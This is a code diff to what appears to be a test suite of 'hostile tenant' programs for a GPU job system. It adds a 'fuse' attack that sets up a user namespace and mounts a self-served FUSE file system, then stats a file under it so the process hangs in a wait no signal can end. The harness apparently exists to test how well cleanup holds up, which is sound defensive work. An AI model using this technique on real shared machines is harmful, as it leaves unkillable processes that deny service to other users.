@@ -1,4 +1,4 @@
-# ruff: noqa: PTH101, PTH103, PTH104, PTH108, PTH110, PTH116, PTH118, PTH123, SIM115
+# ruff: noqa: PTH101, PTH102, PTH103, PTH104, PTH108, PTH110, PTH116, PTH118, PTH123, SIM115
 """What a hostile tenant runs inside a job: ``python3 hostile_programs.py ATTACK [WORD ...]``, all standard library.
 
 An attack prints ``up PID`` once it is at work, PID being a process that may be said to hold GPU memory, and goes on
@@ -485,6 +485,32 @@ def cgroups() -> None:
                     os.makedirs(f"{folder}/job_1/step_0")
 
     again_and_again(move, 0.5)
+
+
+@attack
+def fuse() -> None:
+    """A file system whose server is this process, which waits for an answer of its own: no signal ends it."""
+    user, group = os.getuid(), os.getgid()
+    assert C.unshare(0x10000000 | 0x00020000) == 0
+    for file, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
+        with open(f"/proc/self/{file}", "w") as out:
+            out.write(text)
+    server = os.open("/dev/fuse", os.O_RDWR)
+    place = f"/tmp/fuse.{os.getpid()}"
+    os.mkdir(place)
+    options = f"fd={server},rootmode=40000,user_id=0,group_id=0"
+    assert C.mount(b"hostile", place.encode(), b"fuse", 0, options.encode()) == 0, os.strerror(ctypes.get_errno())
+
+    def serve() -> None:
+        init = 26
+        while True:
+            _, asked, unique = struct.unpack_from("IIQ", os.read(server, 1 << 18))
+            if asked == init:
+                os.write(server, struct.pack("IiQ 4I2H2I2H8I", 80, 0, unique, 7, 31, 0, 0, 12, 10, 4096, 1, *[0] * 10))
+
+    threading.Thread(target=serve, daemon=True).start()
+    up()
+    os.stat(f"{place}/file")
 
 
 # ---- the agent's socket ----
